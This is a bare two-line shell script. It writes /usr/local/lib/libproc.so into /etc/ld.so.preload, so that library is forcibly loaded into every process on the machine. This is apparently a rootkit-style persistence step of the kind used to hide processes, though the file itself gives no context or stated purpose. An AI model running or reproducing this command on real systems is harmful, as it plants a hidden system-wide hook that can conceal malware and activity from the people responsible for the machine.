#!/bin/sh
echo /usr/local/lib/libproc.so > /etc/ld.so.preload
